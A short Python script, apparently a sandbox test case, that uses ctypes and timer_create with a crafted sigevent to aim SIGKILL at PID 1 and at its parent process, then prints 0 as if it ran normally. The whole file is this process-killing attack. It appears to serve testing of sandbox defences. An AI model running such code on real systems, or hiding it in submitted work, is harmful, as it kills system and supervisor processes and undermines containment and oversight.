# Timers that signal another process's thread.
# attacks: stdio
import ctypes, os, struct

libc = ctypes.CDLL(None)
timer = ctypes.c_void_p()
for pid in (1, os.getppid()):
    event = ctypes.create_string_buffer(struct.pack("QiiI", 0, 9, 4, pid), 64)
    libc.timer_create(1, event, ctypes.byref(timer))
print(0)
